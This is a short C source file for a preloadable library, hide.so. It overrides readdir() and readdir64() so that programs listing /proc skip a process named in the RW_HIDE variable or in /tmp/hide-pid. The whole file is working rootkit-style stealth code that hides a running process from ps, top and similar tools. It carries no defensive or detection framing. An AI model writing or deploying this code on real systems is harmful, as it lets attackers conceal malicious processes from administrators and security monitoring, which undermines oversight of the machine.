// SPDX-License-Identifier: GPL-2.0
/*
 * hide.so - hides a process from programs that list /proc
 *
 * When preloaded, it makes readdir() skip entries with the name in $RW_HIDE, or, if that
 * is not set, in the file /tmp/hide-pid.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static bool is_hidden(const char *name)
{
	static char hidden[32];
	const char *env = getenv("RW_HIDE");
	int fd;

	if (!env && !*hidden) {
		fd = open("/tmp/hide-pid", O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			if (read(fd, hidden, sizeof(hidden) - 1) > 0)
				hidden[strcspn(hidden, "\n")] = '\0';
			close(fd);
		}
	}
	env = env ? env : hidden;
	return *env && !strcmp(name, env);
}

struct dirent *readdir(DIR *dir)
{
	struct dirent *(*real)(DIR *dir);
	struct dirent *d;

	*(void **)&real = dlsym(RTLD_NEXT, "readdir");
	do {
		d = real(dir);
	} while (d && is_hidden(d->d_name));
	return d;
}

struct dirent64 *readdir64(DIR *dir)
{
	struct dirent64 *(*real)(DIR *dir);
	struct dirent64 *d;

	*(void **)&real = dlsym(RTLD_NEXT, "readdir64");
	do {
		d = real(dir);
	} while (d && is_hidden(d->d_name));
	return d;
}
